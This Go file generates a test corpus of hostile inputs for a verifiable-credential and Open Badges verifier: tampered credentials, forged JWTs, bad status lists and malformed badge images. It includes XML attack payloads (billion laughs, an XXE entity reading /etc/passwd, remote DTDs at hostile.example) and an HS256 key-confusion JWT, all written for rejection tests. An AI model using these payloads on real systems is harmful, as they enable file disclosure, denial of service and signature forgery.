// Package hostile crafts the generated part of the hostile-input corpus in
// testdata/hostile: credentials, JWTs, presentations, status lists and baked
// images that are each wrong in exactly one way. The root package's
// TestHostileCorpus checks that the committed files are what this package
// produces (so every file can be re-derived and reviewed) and that each is
// rejected by the check MANIFEST.tsv names.
//
// Everything is deterministic: Ed25519 keys from fixed seeds, fixed times,
// and encoding/json output.
package hostile

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"strconv"
	"strings"
	"time"

	"github.com/onchaincert/microcred/did/didkey"
	"github.com/onchaincert/microcred/proof"
	"github.com/onchaincert/microcred/proof/eddsa2022"
	"github.com/onchaincert/microcred/proof/vcjwt"
	"github.com/onchaincert/microcred/vc/bake"
	"github.com/onchaincert/microcred/vc/contexts"
	"github.com/onchaincert/microcred/vc/status"
)

// Fixed inputs the corpus test shares.
var (
	// Now is the verifier's clock for the corpus.
	Now = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
	// Created is when the corpus' proofs were made.
	Created = time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)
	// Challenge is what the verifier expects in presentations.
	Challenge = "expected-challenge-7f3a"
)

// Status list URLs the corpus' status fetcher serves (files lists/*.json).
const (
	ListRevocation       = "https://status.hostile.example/revocation"
	ListSuspension       = "https://status.hostile.example/suspension"
	ListOtherIssuer      = "https://status.hostile.example/other-issuer"
	ListTampered         = "https://status.hostile.example/tampered"
	ListMissing          = "https://status.hostile.example/missing"
	revokedIndex         = 3
	suspendedIndex       = 4
	issuerSeed      byte = 0x11
	otherSeed       byte = 0x22
)

// Keys returns the issuer's and another party's Ed25519 did:key.
func Keys() (issuer, other *didkey.Key, err error) {
	if issuer, err = didkey.NewEd25519FromSeed(bytes.Repeat([]byte{issuerSeed}, 32)); err != nil {
		return nil, nil, err
	}
	other, err = didkey.NewEd25519FromSeed(bytes.Repeat([]byte{otherSeed}, 32))
	return issuer, other, err
}

// gen holds the keys and the base credential while files are made.
type gen struct {
	ctx    context.Context
	issuer *didkey.Key
	other  *didkey.Key
	suite  proof.Suite
	base   map[string]any // the unsigned OB 3.0 credential, issuer = issuer
	files  map[string][]byte
	err    error
}

// Generate returns every generated file by its path under
// testdata/hostile. base is the unsigned OB 3.0 credential
// (testdata/ob3/achievement-credential.json).
func Generate(base []byte) (map[string][]byte, error) {
	issuer, other, err := Keys()
	if err != nil {
		return nil, err
	}
	suite, err := eddsa2022.NewRDFC(contexts.Default())
	if err != nil {
		return nil, err
	}
	g := &gen{ctx: context.Background(), issuer: issuer, other: other, suite: suite, files: map[string][]byte{}}
	if err := json.Unmarshal(base, &g.base); err != nil {
		return nil, err
	}
	g.base["issuer"].(map[string]any)["id"] = issuer.DID().String()
	g.base["credentialSubject"].(map[string]any)["achievement"].(map[string]any)["creator"].(map[string]any)["id"] = issuer.DID().String()
	g.credentials()
	g.statusFiles()
	g.jwts()
	g.jwtClaims()
	g.presentations()
	g.images()
	g.keys13()
	g.sd13()
	g.images13()
	g.graph13()
	return g.files, g.err
}

func (g *gen) fail(err error) {
	if g.err == nil && err != nil {
		g.err = err
	}
}

func (g *gen) put(name string, data []byte) {
	if _, dup := g.files[name]; dup {
		g.fail(fmt.Errorf("hostile: %s made twice", name))
	}
	g.files[name] = data
}

func (g *gen) putJSON(name string, v any) {
	data, err := json.MarshalIndent(v, "", "  ")
	g.fail(err)
	g.put(name, append(data, '\n'))
}

// clone deep-copies a JSON value.
func clone(v any) map[string]any {
	data, _ := json.Marshal(v)
	var m map[string]any
	_ = json.Unmarshal(data, &m)
	return m
}

func decode(data []byte) map[string]any {
	var m map[string]any
	_ = json.Unmarshal(data, &m)
	return m
}

// sign signs doc with key and returns the signed document as a map.
func (g *gen) sign(doc map[string]any, key *didkey.Key, opts proof.Options) map[string]any {
	data, err := json.Marshal(doc)
	g.fail(err)
	if opts.Created.IsZero() {
		opts.Created = Created
	}
	out, err := proof.Sign(g.ctx, data, g.suite, key, opts)
	g.fail(err)
	return decode(out)
}

func (g *gen) signed() map[string]any { return g.sign(clone(g.base), g.issuer, proof.Options{}) }

func sub(m map[string]any, path ...string) map[string]any {
	for _, p := range path {
		m = m[p].(map[string]any)
	}
	return m
}

func firstProof(m map[string]any) map[string]any { return m["proof"].(map[string]any) }

// credentials: tampering, keys, purposes, dates, safe mode, proofs.
func (g *gen) credentials() {
	s := g.signed()
	g.putJSON("valid.json", s) // the control: verifies

	t := clone(s)
	sub(t, "credentialSubject", "achievement")["name"] = "Advanced Data Integrity"
	g.putJSON("tampered-achievement-name.json", t)

	t = clone(s)
	t["validFrom"] = "2024-01-15T09:00:00Z"
	g.putJSON("tampered-validfrom.json", t)

	t = clone(s)
	sub(t, "issuer")["name"] = "Example Technical Institute (accredited)"
	g.putJSON("tampered-issuer-name.json", t)

	t = clone(s)
	firstProof(t)["created"] = "2025-06-02T00:00:00Z"
	g.putJSON("tampered-proof-created.json", t)

	t = clone(s)
	sub(t, "credentialSubject")["id"] = "did:example:someone-else"
	g.putJSON("tampered-recipient.json", t)

	t = clone(s)
	t["type"] = []any{"VerifiableCredential", "OpenBadgeCredential", "EndorsementCredential"}
	g.putJSON("tampered-type-added.json", t)

	// The proofValue of another credential by the same key.
	otherCred := clone(g.base)
	otherCred["id"] = "urn:uuid:00000000-0000-4000-8000-000000000002"
	o := g.sign(otherCred, g.issuer, proof.Options{})
	t = clone(s)
	firstProof(t)["proofValue"] = firstProof(o)["proofValue"]
	g.putJSON("swapped-proofvalue.json", t)

	// Signed by the other key, but the proof names the issuer's key.
	t = g.sign(clone(g.base), g.other, proof.Options{})
	firstProof(t)["verificationMethod"] = g.issuer.VerificationMethod()
	g.putJSON("wrong-key.json", t)

	// A valid signature by another DID's key on the issuer's credential.
	g.putJSON("another-dids-key.json", g.sign(clone(g.base), g.other, proof.Options{}))

	// Valid, but the policy trusts only the other DID (setup trust-other).
	g.putJSON("untrusted-issuer.json", s)

	t = clone(g.base)
	t["validUntil"] = "2025-12-01T00:00:00Z"
	g.putJSON("expired.json", g.sign(t, g.issuer, proof.Options{}))

	t = clone(g.base)
	t["validFrom"] = "2026-06-01T00:00:00Z"
	g.putJSON("not-yet-valid.json", g.sign(t, g.issuer, proof.Options{}))

	t = clone(g.base)
	t["validFrom"] = "the first of January"
	g.putJSON("validfrom-not-a-date.json", g.sign(t, g.issuer, proof.Options{}))

	g.putJSON("proof-created-in-future.json", g.sign(clone(g.base), g.issuer, proof.Options{Created: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)}))
	g.putJSON("proof-expired.json", g.sign(clone(g.base), g.issuer, proof.Options{Expires: time.Date(2025, 12, 1, 0, 0, 0, 0, time.UTC)}))
	g.putJSON("proof-purpose-capability-invocation.json", g.sign(clone(g.base), g.issuer, proof.Options{Purpose: "capabilityInvocation"}))

	t = clone(s)
	firstProof(t)["cryptosuite"] = "eddsa-rdfc-2099"
	g.putJSON("unsupported-cryptosuite.json", t)

	t = clone(s)
	firstProof(t)["type"] = "RsaSignature2018"
	delete(firstProof(t), "cryptosuite")
	g.putJSON("unsupported-proof-type.json", t)

	t = clone(s)
	delete(firstProof(t), "proofValue")
	g.putJSON("proof-without-proofvalue.json", t)

	t = clone(s)
	pv := firstProof(t)["proofValue"].(string)
	firstProof(t)["proofValue"] = pv[:len(pv)-8]
	g.putJSON("proofvalue-truncated.json", t)

	t = clone(s)
	firstProof(t)["verificationMethod"] = "#key-1"
	g.putJSON("verification-method-relative.json", t)

	t = clone(s)
	firstProof(t)["verificationMethod"] = "did:example:issuer#key-1"
	g.putJSON("verification-method-unknown-did-method.json", t)

	// An X25519 key agreement key is not a signing key.
	t = clone(s)
	firstProof(t)["verificationMethod"] = "did:key:z6LSbysY2xFMRpGMhb7tFTLMpeuPRaqaWM1yECx2AtzE3KCc#z6LSbysY2xFMRpGMhb7tFTLMpeuPRaqaWM1yECx2AtzE3KCc"
	g.putJSON("verification-method-x25519.json", t)

	// Two proofs, each tampered.
	a := g.sign(clone(g.base), g.issuer, proof.Options{})
	b := g.sign(clone(g.base), g.issuer, proof.Options{Created: Created.Add(time.Hour)})
	pa, pb := firstProof(a), firstProof(b)
	pa["proofValue"] = firstProof(o)["proofValue"]
	pb["created"] = "2025-06-03T00:00:00Z"
	t = clone(s)
	t["proof"] = []any{pa, pb}
	g.putJSON("several-proofs-all-bad.json", t)

	// A proof chain whose previousProof names a proof that is not there.
	c := g.sign(clone(g.base), g.issuer, proof.Options{ID: "urn:uuid:proof-1"})
	c2 := g.sign(c, g.issuer, proof.Options{ID: "urn:uuid:proof-2", PreviousProof: []string{"urn:uuid:proof-1"}})
	chain := c2["proof"].([]any)
	c2["proof"] = []any{chain[1]}
	g.putJSON("proof-chain-previous-missing.json", c2)

	// Members added after signing that the contexts do not define.
	t = clone(s)
	sub(t, "credentialSubject")["score"] = 99
	g.putJSON("undefined-term-added.json", t)

	// An @vocab smuggled in an inline context makes any term "defined".
	t = clone(s)
	t["@context"] = append(t["@context"].([]any), map[string]any{"@vocab": "https://evil.example/vocab#"})
	sub(t, "credentialSubject")["honours"] = "summa cum laude"
	g.putJSON("vocab-injection.json", t)

	// Relative IRIs: dropped or rewritten by expansion, so unsigned.
	t = clone(g.base)
	sub(t, "credentialSubject")["id"] = "learner-4711"
	g.putJSON("relative-subject-id.json", g.signUnsafe(t))
	t = clone(g.base)
	sub(t, "credentialSubject")["type"] = []any{"AchievementSubject", "HonoursSubject"}
	g.putJSON("relative-type.json", g.signUnsafe(t))

	// Structure that VCDM 2.0 requires.
	t = clone(s)
	delete(t, "issuer")
	g.putJSON("missing-issuer.json", t)
	t = clone(s)
	delete(t, "credentialSubject")
	g.putJSON("missing-credential-subject.json", t)
	t = clone(s)
	t["type"] = []any{"OpenBadgeCredential"}
	g.putJSON("missing-verifiablecredential-type.json", t)
	t = clone(s)
	ctxs := t["@context"].([]any)
	t["@context"] = []any{ctxs[1], ctxs[0]}
	g.putJSON("context-order-swapped.json", t)
	t = clone(s)
	t["issuer"] = "not a uri"
	g.putJSON("issuer-not-a-uri.json", t)

	// OB 3.0 schema: the achievement lacks its required criteria, and the
	// credential names the 1EdTech validator; validly signed.
	t = clone(g.base)
	t["@context"] = append(t["@context"].([]any), "https://purl.imsglobal.org/spec/ob/v3p0/extensions.json")
	delete(sub(t, "credentialSubject", "achievement"), "criteria")
	t["credentialSchema"] = []any{map[string]any{"id": "https://purl.imsglobal.org/spec/ob/v3p0/schema/json/ob_v3p0_achievementcredential_schema.json", "type": "1EdTechJsonSchemaValidator2019"}}
	g.putJSON("schema-missing-criteria.json", g.sign(t, g.issuer, proof.Options{}))

	// An endorsement by the other party, edited after it was signed, then
	// embedded in a credential the issuer signs correctly.
	e := map[string]any{
		"@context":  []any{"https://www.w3.org/ns/credentials/v2", "https://purl.imsglobal.org/spec/ob/v3p0/context-3.0.3.json"},
		"id":        "urn:uuid:00000000-0000-4000-8000-00000000e001",
		"type":      []any{"VerifiableCredential", "EndorsementCredential"},
		"name":      "Endorsement of Intro to Data Integrity",
		"issuer":    map[string]any{"id": g.other.DID().String(), "type": []any{"Profile"}, "name": "Example Accreditation Board"},
		"validFrom": "2025-01-01T00:00:00Z",
		"credentialSubject": map[string]any{
			"id": "https://institute.example/achievements/intro-data-integrity", "type": []any{"EndorsementSubject"},
			"endorsementComment": "Meets the board's standard for introductory courses.",
		},
	}
	se := g.sign(e, g.other, proof.Options{})
	sub(se, "credentialSubject")["endorsementComment"] = "Exceeds every standard the board has."
	t = clone(g.base)
	t["endorsement"] = []any{se}
	g.putJSON("tampered-endorsement.json", g.sign(t, g.issuer, proof.Options{}))

	// Nested duplicate key (encoding/json cannot write one).
	raw, err := json.MarshalIndent(s, "", "  ")
	g.fail(err)
	g.put("duplicate-key-nested.json", bytes.Replace(raw, []byte(`"humanCode": "DI-101",`), []byte(`"humanCode": "DI-101", "humanCode": "DI-999",`), 1))
}

// signUnsafe signs a document the canonicalizer would refuse: the proof is
// computed over the document as if it were safe, which the verifier must
// still refuse. It signs a copy without the offending value and then puts
// the value back.
func (g *gen) signUnsafe(doc map[string]any) map[string]any {
	safe := clone(doc)
	sub(safe, "credentialSubject")["id"] = "did:example:learner-4711"
	sub(safe, "credentialSubject")["type"] = []any{"AchievementSubject"}
	signed := g.sign(safe, g.issuer, proof.Options{})
	signed["credentialSubject"] = doc["credentialSubject"]
	return signed
}

// withStatus returns the base credential with one status entry.
func (g *gen) withStatus(list, purpose string, index int) map[string]any {
	t := clone(g.base)
	t["credentialStatus"] = map[string]any{
		"id": fmt.Sprintf("%s#%d", list, index), "type": "BitstringStatusListEntry", "statusPurpose": purpose,
		"statusListIndex": fmt.Sprint(index), "statusListCredential": list,
	}
	return t
}

func (g *gen) list(url, purpose string, key *didkey.Key, set ...int) map[string]any {
	l, err := status.NewList(status.MinBits, 1)
	g.fail(err)
	for _, i := range set {
		g.fail(l.Set(i, 1))
	}
	data, err := status.NewListCredential(status.ListCredential{ID: url, Issuer: key.DID().String(), Purpose: purpose, ValidFrom: Created, List: l})
	g.fail(err)
	return g.sign(decode(data), key, proof.Options{})
}

// statusFiles: credentials whose status check must fail, and the lists the
// corpus' status fetcher serves (setup "status").
func (g *gen) statusFiles() {
	g.putJSON("lists/revocation.json", g.list(ListRevocation, status.Revocation, g.issuer, revokedIndex))
	g.putJSON("lists/suspension.json", g.list(ListSuspension, status.Suspension, g.issuer, suspendedIndex))
	g.putJSON("lists/other-issuer.json", g.list(ListOtherIssuer, status.Revocation, g.other))
	tampered := g.list(ListTampered, status.Revocation, g.issuer, revokedIndex)
	clean, err := status.NewList(status.MinBits, 1)
	g.fail(err)
	enc, err := clean.Encode()
	g.fail(err)
	sub(tampered, "credentialSubject")["encodedList"] = enc // un-revoked after signing
	g.putJSON("lists/tampered.json", tampered)

	g.putJSON("status-revoked.json", g.sign(g.withStatus(ListRevocation, status.Revocation, revokedIndex), g.issuer, proof.Options{}))
	g.putJSON("status-suspended.json", g.sign(g.withStatus(ListSuspension, status.Suspension, suspendedIndex), g.issuer, proof.Options{}))
	g.putJSON("status-list-by-another-issuer.json", g.sign(g.withStatus(ListOtherIssuer, status.Revocation, 1), g.issuer, proof.Options{}))
	g.putJSON("status-list-purpose-mismatch.json", g.sign(g.withStatus(ListSuspension, status.Revocation, 1), g.issuer, proof.Options{}))
	g.putJSON("status-list-tampered.json", g.sign(g.withStatus(ListTampered, status.Revocation, revokedIndex), g.issuer, proof.Options{}))
	g.putJSON("status-list-unavailable.json", g.sign(g.withStatus(ListMissing, status.Revocation, 1), g.issuer, proof.Options{}))
	g.putJSON("status-index-out-of-range.json", g.sign(g.withStatus(ListRevocation, status.Revocation, status.MinBits+5), g.issuer, proof.Options{}))
	t := g.withStatus(ListRevocation, status.Revocation, 1)
	sub(t, "credentialStatus")["statusListIndex"] = "-1"
	g.putJSON("status-index-negative.json", g.sign(t, g.issuer, proof.Options{}))
}

// rawJWT assembles a compact JWS from a header and payload, signed by
// sign over "header.payload".
func rawJWT(header, payload map[string]any, sign func([]byte) []byte) []byte {
	h, _ := json.Marshal(header)
	p, _ := json.Marshal(payload)
	input := base64.RawURLEncoding.EncodeToString(h) + "." + base64.RawURLEncoding.EncodeToString(p)
	return []byte(input + "." + base64.RawURLEncoding.EncodeToString(sign([]byte(input))))
}

func (g *gen) edSign(key *didkey.Key) func([]byte) []byte {
	return func(msg []byte) []byte {
		sig, err := key.Sign(g.ctx, msg)
		g.fail(err)
		return sig
	}
}

// goodJWT is the base credential as an OB 3.0 VC-JWT the issuer signed:
// the token, its three dot-separated parts, and its header and payload
// decoded.
func (g *gen) goodJWT() (good string, parts []string, header, payload map[string]any) {
	data, err := json.Marshal(g.base)
	g.fail(err)
	good, err = vcjwt.Sign(g.ctx, data, g.issuer, vcjwt.FormatOB3)
	g.fail(err)
	parts = strings.Split(good, ".")
	hb, _ := base64.RawURLEncoding.DecodeString(parts[0])
	pb, _ := base64.RawURLEncoding.DecodeString(parts[1])
	g.fail(json.Unmarshal(hb, &header))
	g.fail(json.Unmarshal(pb, &payload))
	return good, parts, header, payload
}

// jwts: OB 3.0 VC-JWTs wrong in one header field or claim each.
func (g *gen) jwts() {
	good, parts, header, payload := g.goodJWT()
	pb, _ := base64.RawURLEncoding.DecodeString(parts[1])
	g.put("jwt-valid.jwt", []byte(good))

	edit := func(name string, h func(map[string]any), p func(map[string]any), key *didkey.Key) {
		hh, pp := clone(header), clone(payload)
		if h != nil {
			h(hh)
		}
		if p != nil {
			p(pp)
		}
		g.put(name, rawJWT(hh, pp, g.edSign(key)))
	}
	// HS256 keyed with the issuer's public key (the classic confusion).
	hs := clone(header)
	hs["alg"] = "HS256"
	pub := g.issuer.Public().(ed25519.PublicKey)
	g.put("jwt-hs256-public-key.jwt", rawJWT(hs, payload, func(msg []byte) []byte {
		m := hmac.New(sha256.New, pub)
		m.Write(msg)
		return m.Sum(nil)
	}))
	edit("jwt-kid-other-key.jwt", nil, nil, g.other) // kid names the issuer's key, the other key signed
	edit("jwt-iss-mismatch.jwt", nil, func(p map[string]any) { p["iss"] = g.other.DID().String() }, g.issuer)
	edit("jwt-jti-mismatch.jwt", nil, func(p map[string]any) { p["jti"] = "urn:uuid:00000000-0000-4000-8000-0000000000ff" }, g.issuer)
	edit("jwt-sub-mismatch.jwt", nil, func(p map[string]any) { p["sub"] = "did:example:someone-else" }, g.issuer)
	edit("jwt-exp-disagrees.jwt", nil, func(p map[string]any) { p["exp"] = float64(time.Date(2030, 1, 1, 0, 0, 0, 0, time.UTC).Unix()) }, g.issuer)
	edit("jwt-unknown-crit.jwt", func(h map[string]any) {
		h["crit"] = []any{"https://hostile.example/policy"}
		h["https://hostile.example/policy"] = true
	}, nil, g.issuer)
	edit("jwt-header-private-jwk.jwt", func(h map[string]any) {
		seed := bytes.Repeat([]byte{issuerSeed}, 32)
		h["jwk"] = map[string]any{"kty": "OKP", "crv": "Ed25519", "x": base64.RawURLEncoding.EncodeToString(pub), "d": base64.RawURLEncoding.EncodeToString(seed)}
	}, nil, g.issuer)
	edit("jwt-alg-es256-with-ed25519-key.jwt", func(h map[string]any) { h["alg"] = "ES256" }, nil, g.issuer)
	edit("jwt-kid-unknown-method.jwt", func(h map[string]any) { h["kid"] = "did:example:issuer#key-1" }, nil, g.issuer)
	tampered := parts[0] + "." + base64.RawURLEncoding.EncodeToString(bytes.Replace(pb, []byte("Intro to Data Integrity"), []byte("Expert in Data Integrity"), 1)) + "." + parts[2]
	g.put("jwt-payload-tampered.jwt", []byte(tampered))
	g.put("jwt-signature-stripped.jwt", []byte(parts[0]+"."+parts[1]+"."))
	edit("jwt-undefined-term.jwt", nil, func(p map[string]any) {
		sub(p, "vc", "credentialSubject")["score"] = 99
	}, g.issuer)
	g.put("jwt-not-base64.jwt", []byte(parts[0]+".!!not*base64!!."+parts[2]))
}

// presentations: verified with the corpus' Challenge (setup "vp").
func (g *gen) presentations() {
	cred := g.signed()
	vp := func(creds ...any) map[string]any {
		return map[string]any{
			"@context":             []any{"https://www.w3.org/ns/credentials/v2"},
			"type":                 []any{"VerifiablePresentation"},
			"holder":               g.other.DID().String(),
			"verifiableCredential": creds,
		}
	}
	g.putJSON("vp-without-challenge.json", g.sign(vp(cred), g.other, proof.Options{Purpose: proof.Authentication}))
	g.putJSON("vp-wrong-challenge.json", g.sign(vp(cred), g.other, proof.Options{Purpose: proof.Authentication, Challenge: "replayed-challenge"}))
	g.putJSON("vp-assertion-purpose.json", g.sign(vp(cred), g.other, proof.Options{Challenge: Challenge}))
	bad := clone(cred)
	sub(bad, "credentialSubject", "achievement")["name"] = "Advanced Data Integrity"
	g.putJSON("vp-tampered-credential.json", g.sign(vp(bad), g.other, proof.Options{Purpose: proof.Authentication, Challenge: Challenge}))
	h := vp(cred)
	h["holder"] = g.issuer.DID().String()
	g.putJSON("vp-holder-not-signer.json", g.sign(h, g.other, proof.Options{Purpose: proof.Authentication, Challenge: Challenge}))
}

func badgePNG() []byte {
	img := image.NewRGBA(image.Rect(0, 0, 8, 8))
	for i := range img.Pix {
		img.Pix[i] = 0x80
	}
	img.Set(0, 0, color.RGBA{R: 0xff, A: 0xff})
	var buf bytes.Buffer
	_ = png.Encode(&buf, img)
	return buf.Bytes()
}

const badgeSVG = `<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8"><rect width="8" height="8" fill="#888"/></svg>`

// images: baked badges with a bad payload or a malformed container.
func (g *gen) images() {
	t := g.signed()
	sub(t, "credentialSubject", "achievement")["name"] = "Advanced Data Integrity"
	tampered, err := json.Marshal(t)
	g.fail(err)
	baked, err := bake.BakePNG(badgePNG(), tampered, bake.Options{})
	g.fail(err)
	g.put("baked-tampered.png", baked)

	valid, err := json.Marshal(g.signed())
	g.fail(err)
	once, err := bake.BakePNG(badgePNG(), valid, bake.Options{})
	g.fail(err)
	// A second iTXt chunk spliced in before IEND.
	chunk := once[len(badgePNG())-12 : len(once)-12]
	twice := append(append(append([]byte{}, once[:len(once)-12]...), chunk...), once[len(once)-12:]...)
	g.put("baked-two-credentials.png", twice)

	crc := append([]byte{}, once...)
	crc[len(crc)-13] ^= 0xff // last byte of the iTXt chunk's CRC
	g.put("baked-bad-crc.png", crc)
	g.put("baked-truncated.png", once[:len(once)/2])

	svg, err := bake.BakeSVG([]byte(badgeSVG), tampered, bake.Options{})
	g.fail(err)
	g.put("baked-tampered.svg", svg)
	g.put("svg-entity-expansion.svg", []byte(`<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential><![CDATA[&c;]]></openbadges:credential></svg>
`))

	// DOCTYPEs (issue 15): the W3C SVG 1.1 one is read (a control);
	// one that declares entities or names another DTD is refused, with
	// the genuine credential baked in.
	const svg11 = `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">`
	control, err := bake.BakeSVG([]byte(svg11+"\n"+badgeSVG), valid, bake.Options{})
	g.fail(err)
	g.put("svg-doctype-svg11.svg", control)
	plain, err := bake.BakeSVG([]byte(badgeSVG), valid, bake.Options{})
	g.fail(err)
	withDoctype := func(doctype, title string) []byte {
		out := []byte(doctype + "\n" + string(plain))
		if title != "" {
			out = bytes.Replace(out, []byte("<rect "), []byte("<title>"+title+"</title><rect "), 1)
		}
		return out
	}
	laughs := `<!ENTITY lol0 "lol">`
	for i := 1; i <= 9; i++ {
		laughs += `<!ENTITY lol` + strconv.Itoa(i) + ` "` + strings.Repeat(`&lol`+strconv.Itoa(i-1)+`;`, 10) + `">`
	}
	g.put("svg-doctype-billion-laughs.svg", withDoctype(svg11[:len(svg11)-1]+` [`+laughs+`]>`, "&lol9;"))
	g.put("svg-doctype-external-entity.svg", withDoctype(`<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "&xxe;"))
	g.put("svg-doctype-parameter-entity.svg", withDoctype(`<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://hostile.example/badge.dtd"> %remote;]>`, ""))
	g.put("svg-doctype-system.svg", withDoctype(`<!DOCTYPE svg SYSTEM "https://hostile.example/badge.dtd">`, ""))
	g.put("svg-doctype-svg11-other-dtd.svg", withDoctype(`<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://hostile.example/svg11.dtd">`, ""))
}
